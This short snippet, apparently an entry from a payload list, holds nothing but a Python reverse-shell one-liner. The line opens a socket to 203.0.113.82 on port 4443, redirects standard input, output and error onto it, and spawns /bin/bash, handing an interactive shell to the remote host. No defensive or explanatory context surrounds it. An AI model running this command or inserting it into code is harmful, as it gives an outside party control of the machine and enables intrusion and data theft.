# python pty.spawn after dup2
#pool 203.0.113.82:4443:cmd
timeout 9 python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.82",4443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/bash")'
